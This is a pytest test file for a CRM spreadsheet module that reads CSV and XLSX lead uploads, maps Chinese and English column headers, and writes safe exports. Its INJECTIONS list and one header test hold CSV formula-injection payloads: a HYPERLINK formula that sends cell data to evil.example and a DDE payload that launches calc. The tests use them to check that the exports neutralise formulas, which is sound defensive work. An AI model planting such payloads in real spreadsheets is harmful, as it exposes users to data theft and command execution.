"""crm.core.spreadsheets: reading uploads, suggesting column mappings, writing reports safely. No database."""

import codecs
import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from django.utils import timezone

from crm.core.spreadsheets import (
    SpreadsheetError,
    read_table,
    suggest_mapping,
    write_csv,
    write_xlsx,
)
from leads.imports.forms import DEFAULT_LEAD_FIELDS

INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2", "@SUM(A1:A2)", "\tx=1", "\r=1"]


def _workbook_bytes(workbook: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _replace_in_zip(data: bytes, *, member_suffix: str, old: bytes, new: bytes) -> bytes:
    """Rewrite one part of an .xlsx, to produce what Excel writes but openpyxl does not."""
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as output:
        for member in source.infolist():
            content = source.read(member)
            if member.filename.endswith(member_suffix):
                assert old in content
                content = content.replace(old, new)
            output.writestr(member, content)
    return target.getvalue()


def _leads_workbook() -> bytes:
    workbook = openpyxl.Workbook()
    hidden = workbook.active
    hidden.title = "Lookup"
    hidden.sheet_state = "hidden"
    hidden.append(["code", "label"])
    hidden.append(["A", "hot"])
    leads = workbook.create_sheet("Leads")
    leads.append(["姓名", "手机", "到店日期", "留资时间", "预算", "备注", None])
    leads.append(["张三", 13812345678.0, date(2024, 5, 1), datetime(2024, 5, 1, 10, 30), 25.5, None])
    leads.append([None, None, None, None, None, None])
    leads.append(["  李四  ", 13987654321, None, None, 300000, "回访"])
    return _workbook_bytes(workbook)


def _assert_refused(data: bytes, *, filename: str, containing: str, **options) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        read_table(data, filename=filename, **options)
    assert containing in str(caught.value.message)
    return caught.value


# Reading CSV


def test_utf8_csv_is_read_with_stripped_cells():
    table = read_table(b" name , phone \r\n Alice ,+8613812345678\r\n", filename="leads.csv")
    assert table.headers == ["name", "phone"]
    assert table.rows == [["Alice", "+8613812345678"]]
    assert table.encoding == "utf-8"
    assert table.sheet is None
    assert table.warnings == []


def test_utf8_csv_with_bom_has_no_bom_in_first_header():
    data = codecs.BOM_UTF8 + "姓名,手机\r\n张三,13812345678\r\n".encode()
    table = read_table(data, filename="leads.csv")
    assert table.headers == ["姓名", "手机"]
    assert table.encoding == "utf-8-sig"


def test_gb18030_csv_from_chinese_excel_is_decoded():
    data = "姓名,手机,车型\r\n张三,13812345678,汉EV\r\n李四,13987654321,宋PLUS DM-i\r\n".encode("gb18030")
    table = read_table(data, filename="活动名单.csv")
    assert table.encoding == "gb18030"
    assert table.headers == ["姓名", "手机", "车型"]
    assert table.rows == [["张三", "13812345678", "汉EV"], ["李四", "13987654321", "宋PLUS DM-i"]]


def test_utf16_unicode_text_from_excel_is_decoded_and_tab_delimited():
    data = "姓名\t手机\r\n张三\t13812345678\r\n".encode("utf-16")
    table = read_table(data, filename="leads.txt")
    assert table.encoding == "utf-16"
    assert table.headers == ["姓名", "手机"]
    assert table.rows == [["张三", "13812345678"]]


def test_semicolon_delimited_csv_is_detected():
    data = b"name;phone;note\r\nAlice;123;likes red, and blue\r\nBob;456;x\r\n"
    table = read_table(data, filename="leads.csv")
    assert table.headers == ["name", "phone", "note"]
    assert table.rows[0] == ["Alice", "123", "likes red, and blue"]


def test_tab_delimited_csv_is_detected():
    table = read_table(b"name\tphone\nAlice\t123\nBob\t456\n", filename="leads.tsv")
    assert table.headers == ["name", "phone"]
    assert table.rows == [["Alice", "123"], ["Bob", "456"]]


def test_single_column_csv_falls_back_to_comma():
    table = read_table(b"phone\n13812345678\n13987654321\n", filename="phones.csv")
    assert table.headers == ["phone"]
    assert table.rows == [["13812345678"], ["13987654321"]]


def test_empty_rows_are_skipped_and_header_is_first_non_empty_row():
    data = b"\r\n,,\r\nname,phone,note\r\n\r\nAlice,1,\r\n , , \r\nBob,2,x\r\n"
    table = read_table(data, filename="leads.csv")
    assert table.headers == ["name", "phone", "note"]
    assert table.rows == [["Alice", "1", ""], ["Bob", "2", "x"]]


def test_quoted_field_with_newline_stays_one_cell():
    table = read_table(b'name,note\r\nAlice,"line one\r\nline two"\r\n', filename="leads.csv")
    assert table.rows == [["Alice", "line one\r\nline two"]]


def test_ragged_rows_are_padded_or_truncated_with_warnings():
    data = b"name,phone,city\nAlice,1\nBob,2,Beijing,extra\nCarol,3,Shanghai,,\n"
    table = read_table(data, filename="leads.csv")
    assert table.rows == [["Alice", "1", ""], ["Bob", "2", "Beijing"], ["Carol", "3", "Shanghai"]]
    assert len(table.warnings) == 2
    assert "fewer cells" in table.warnings[0] and "2" in table.warnings[0]
    assert "more cells" in table.warnings[1] and "3" in table.warnings[1]


def test_blank_and_duplicate_headers_are_named_and_reported():
    table = read_table(b"name,,name\nAlice,x,y\n", filename="leads.csv")
    assert table.headers == ["name", "Column 2", "name"]
    assert any("same name" in warning and "name" in warning for warning in table.warnings)


def test_own_csv_export_imports_back_unchanged():
    rows = [["Alice", "+8613812345678", "=1+1"], ["Bob", "-", "@home"]]
    table = read_table(write_csv(["name", "phone", "note"], rows), filename="export.csv")
    assert table.rows == rows


# Reading XLSX


def test_xlsx_reads_first_visible_sheet_with_cells_as_text():
    table = read_table(_leads_workbook(), filename="leads.xlsx")
    assert table.sheet == "Leads"
    assert table.encoding is None
    assert table.headers == ["姓名", "手机", "到店日期", "留资时间", "预算", "备注"]
    assert table.rows == [
        ["张三", "13812345678", "2024-05-01", "2024-05-01 10:30:00", "25.5", ""],
        ["李四", "13987654321", "", "", "300000", "回访"],
    ]
    assert table.warnings == []


def test_xlsx_phone_in_scientific_notation_gives_full_digits():
    data = _replace_in_zip(
        _leads_workbook(),
        member_suffix="sheet2.xml",
        old=b"<v>13812345678</v>",
        new=b"<v>1.3812345678E+10</v>",
    )
    table = read_table(data, filename="leads.xlsx")
    assert table.rows[0][1] == "13812345678"


def test_xlsx_named_sheet_can_be_read_even_when_hidden():
    table = read_table(_leads_workbook(), filename="leads.xlsx", sheet="Lookup")
    assert table.sheet == "Lookup"
    assert table.rows == [["A", "hot"]]


def test_xlsx_unknown_sheet_is_refused_with_the_sheet_names():
    _assert_refused(_leads_workbook(), filename="leads.xlsx", sheet="Nope", containing="Lookup, Leads")


def test_xlsx_number_longer_than_excel_precision_is_warned():
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "id card"])
    workbook.active.append(["Alice", 110101199001011234])
    table = read_table(_workbook_bytes(workbook), filename="leads.xlsx")
    assert len(table.warnings) == 1
    assert "15 digits" in table.warnings[0]


def test_xlsx_data_right_of_the_header_is_ignored_with_a_warning():
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "phone"])
    workbook.active.append(["Alice", "1", "stray"])
    table = read_table(_workbook_bytes(workbook), filename="leads.xlsx")
    assert table.rows == [["Alice", "1"]]
    assert "more cells" in table.warnings[0]


def test_xlsx_saved_with_csv_name_is_still_read():
    table = read_table(_leads_workbook(), filename="leads.csv")
    assert table.sheet == "Leads"


# Refusals


def test_too_many_rows_is_refused_and_says_the_limit():
    data = b"name\n" + b"".join(f"lead {number}\n".encode() for number in range(4))
    error = _assert_refused(data, filename="leads.csv", max_rows=3, containing="3")
    assert error.code == "invalid_spreadsheet"
    assert error.status == 400
    assert read_table(data, filename="leads.csv", max_rows=4).rows[-1] == ["lead 3"]


def test_too_many_rows_in_xlsx_is_refused():
    _assert_refused(_leads_workbook(), filename="leads.xlsx", max_rows=1, containing="more than 1 rows")


def test_too_big_file_is_refused():
    _assert_refused(b"name\nAlice\n", filename="leads.csv", max_bytes=5, containing="too big")


def test_legacy_xls_is_refused_with_what_to_do():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    _assert_refused(ole2, filename="leads.xls", containing="save as .xlsx or .csv")
    _assert_refused(b"<html>WPS export</html>", filename="leads.XLS", containing="save as .xlsx or .csv")


def test_encrypted_xlsx_is_refused():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    _assert_refused(ole2, filename="leads.xlsx", containing="password")


@pytest.mark.parametrize(
    "data",
    [
        b"this is not a zip file",
        b"PK\x03\x04" + b"\x00" * 100,
        _replace_in_zip(
            _workbook_bytes(openpyxl.Workbook()),
            member_suffix="workbook.xml",
            old=b"<sheets>",
            new=b"<sheets",
        ),
    ],
    ids=["not-zip", "truncated-zip", "broken-xml"],
)
def test_corrupt_xlsx_is_refused(data):
    _assert_refused(data, filename="leads.xlsx", containing="damaged")


def test_zip_without_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hi")
    _assert_refused(buffer.getvalue(), filename="leads.xlsx", containing="damaged")


@pytest.mark.parametrize("data", [b"", b"   \r\n"])
def test_empty_file_is_refused(data):
    _assert_refused(data, filename="leads.csv", containing="empty")


def test_file_with_only_empty_rows_has_no_header():
    _assert_refused(b",,\r\n , \r\n", filename="leads.csv", containing="header")


def test_empty_workbook_has_no_header():
    _assert_refused(_workbook_bytes(openpyxl.Workbook()), filename="leads.xlsx", containing="header")


def test_unknown_extension_is_refused():
    _assert_refused(b"name\nAlice\n", filename="leads.pdf", containing="leads.pdf")


@pytest.mark.parametrize(
    "data",
    [b"name\r\n\x80\xff\x80\r\n", "name\r\nAlice\r\n".encode("utf-16-le")],
    ids=["not-utf8-nor-gb18030", "utf16-without-bom"],
)
def test_undecodable_csv_is_refused(data):
    _assert_refused(data, filename="leads.csv", containing="encoding")


# Column mapping


def test_english_headers_are_mapped():
    headers = [
        "Lead ID",
        "Full Name",
        "Mobile Phone",
        "E-mail",
        "City",
        "Car Model",
        "Source",
        "Notes",
        "WeChat",
    ]
    mapping = suggest_mapping(headers, DEFAULT_LEAD_FIELDS)
    assert mapping == {
        "name": 1,
        "phone": 2,
        "email": 3,
        "city": 4,
        "model": 5,
        "source": 6,
        "note": 7,
        "external_id": 0,
        "grade": None,
        "wechat": 8,
    }


def test_chinese_headers_are_mapped():
    headers = [
        "编号",
        "客户姓名",
        "手机号码",
        "意向车型",
        "线索来源",
        "意向级别",
        "微信号",
        "所在城市",
        "备注",
        "邮箱",
    ]
    mapping = suggest_mapping(headers, DEFAULT_LEAD_FIELDS)
    assert mapping == {
        "external_id": 0,
        "name": 1,
        "phone": 2,
        "model": 3,
        "source": 4,
        "grade": 5,
        "wechat": 6,
        "city": 7,
        "note": 8,
        "email": 9,
    }


def test_matching_ignores_case_spaces_punctuation_and_full_width():
    mapping = suggest_mapping(["  ＰＨＯＮＥ ", "手机号：", "e_mail", "customerName"], DEFAULT_LEAD_FIELDS)
    assert mapping["phone"] == 0
    assert mapping["email"] == 2
    assert mapping["name"] == 3


def test_contained_synonym_matches_and_the_end_of_a_compound_decides():
    headers = ["客户编号", "客户微信", "联系人电话(必填)", "valid"]
    mapping = suggest_mapping(headers, DEFAULT_LEAD_FIELDS)
    assert mapping["external_id"] == 0
    assert mapping["wechat"] == 1
    assert mapping["phone"] == 2
    assert mapping["name"] is None


def test_exact_synonym_beats_contained_one():
    mapping = suggest_mapping(["联系电话备用", "电话"], {"phone": ["电话"]})
    assert mapping == {"phone": 1}


def test_one_header_is_never_mapped_to_two_fields():
    fields = {"name": ["customer"], "external_id": ["customer"], "note": ["customer"]}
    mapping = suggest_mapping(["Customer"], fields)
    assert mapping == {"name": 0, "external_id": None, "note": None}
    mapping = suggest_mapping(["姓名", "客户", "客户ID", "客户来源", "手机", "电话"], DEFAULT_LEAD_FIELDS)
    mapped = [index for index in mapping.values() if index is not None]
    assert len(mapped) == len(set(mapped))
    assert mapping["name"] == 0
    assert mapping["external_id"] == 2
    assert mapping["source"] == 3
    assert mapping["phone"] == 4


def test_no_headers_map_to_nothing():
    assert suggest_mapping([], DEFAULT_LEAD_FIELDS) == dict.fromkeys(DEFAULT_LEAD_FIELDS)


# Writing CSV


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_is_utf8_with_bom_and_crlf():
    data = write_csv(["姓名", "车型"], [["张三", "汉EV"]])
    assert data.startswith(codecs.BOM_UTF8)
    assert data[len(codecs.BOM_UTF8) :].decode("utf-8") == "姓名,车型\r\n张三,汉EV\r\n"


def test_csv_export_neutralises_formula_injection():
    rows = _csv_rows(write_csv(["value"], [[value] for value in INJECTIONS]))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in INJECTIONS]


def test_csv_export_neutralises_headers_too():
    assert _csv_rows(write_csv(["=cmd|' /C calc'!A0"], []))[0] == ["'=cmd|' /C calc'!A0"]


def test_csv_export_keeps_phone_digits_and_plus_behind_a_quote():
    rows = _csv_rows(write_csv(["phone"], [["+8613812345678"], ["13812345678"]]))
    assert rows[1:] == [["'+8613812345678"], ["13812345678"]]


def test_csv_export_writes_numbers_and_dates_plainly():
    aware = datetime(2024, 5, 1, 2, 30, tzinfo=UTC)
    with timezone.override("Asia/Shanghai"):
        rows = _csv_rows(write_csv(["n"], [[-2, 1e-05, 13812345678.0, date(2024, 5, 1), aware, None, True]]))
    assert rows[1] == ["-2", "0.00001", "13812345678", "2024-05-01", "2024-05-01 10:30:00", "", "TRUE"]


# Writing XLSX


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_export_writes_injections_as_strings_never_formulas():
    worksheet = _sheet(write_xlsx(["value"], [[value] for value in INJECTIONS], sheet_title="Report"))
    cells = [row[0] for row in worksheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert cells[0].value == "'" + INJECTIONS[0]
    # XML turns a raw carriage return into a line feed; both start a formula, both are neutralised.
    assert [cell.value for cell in cells[1:]] == [value.replace("\r", "\n") for value in INJECTIONS[1:]]
    assert all(cell.quotePrefix for cell in cells[1:])


def test_xlsx_export_neutralises_header_and_keeps_it_bold_and_frozen():
    worksheet = _sheet(write_xlsx(["=1+1", "姓名"], [], sheet_title="Report"))
    assert worksheet["A1"].value == "'=1+1"
    assert worksheet["A1"].data_type == "s"
    assert worksheet["B1"].font.bold
    assert worksheet.freeze_panes == "A2"


def test_xlsx_export_keeps_phones_as_text():
    worksheet = _sheet(write_xlsx(["phone"], [["+8613812345678"], ["13812345678"]], sheet_title="Phones"))
    for cell, expected in [(worksheet["A2"], "+8613812345678"), (worksheet["A3"], "13812345678")]:
        assert cell.value == expected
        assert cell.data_type == "s"
        assert cell.number_format == "@"


def test_xlsx_export_keeps_numbers_and_dates_typed():
    aware = datetime(2024, 5, 1, 2, 30, tzinfo=UTC)
    with timezone.override("Asia/Shanghai"):
        data = write_xlsx(
            ["count", "rate", "day", "at", "id card", "empty"],
            [[42, 0.25, date(2024, 5, 1), aware, 110101199001011234, None]],
            sheet_title="Funnel",
        )
    count, rate, day, at, id_card, empty = next(_sheet(data).iter_rows(min_row=2))
    assert (count.value, count.data_type) == (42, "n")
    assert (rate.value, rate.data_type) == (0.25, "n")
    assert day.value == datetime(2024, 5, 1) and day.is_date
    assert at.value == datetime(2024, 5, 1, 10, 30) and at.is_date
    assert (id_card.value, id_card.data_type) == ("110101199001011234", "s")
    assert empty.value is None


def test_xlsx_export_fits_column_widths_and_cleans_sheet_title():
    worksheet = _sheet(
        write_xlsx(["a", "b"], [["x", "意向车型很长的一段说明"]], sheet_title="Leads: 2024/05")
    )
    assert worksheet.title == "Leads  2024 05"
    assert worksheet.column_dimensions["A"].width == 8
    assert worksheet.column_dimensions["B"].width == 24


def test_xlsx_export_drops_characters_xml_cannot_hold():
    worksheet = _sheet(write_xlsx(["note"], [["bell\x07 ok"]], sheet_title="Notes"))
    assert worksheet["A2"].value == "bell ok"


def test_own_xlsx_export_imports_back():
    rows = [["Alice", "+8613812345678", "=1+1", 3]]
    table = read_table(
        write_xlsx(["name", "phone", "note", "visits"], rows, sheet_title="Leads"), filename="x.xlsx"
    )
    assert table.rows == [["Alice", "+8613812345678", "=1+1", "3"]]


def test_too_many_columns_is_refused():
    workbook = openpyxl.Workbook()
    workbook.active.append([f"column {number}" for number in range(501)])
    _assert_refused(_workbook_bytes(workbook), filename="wide.xlsx", containing="500 columns")
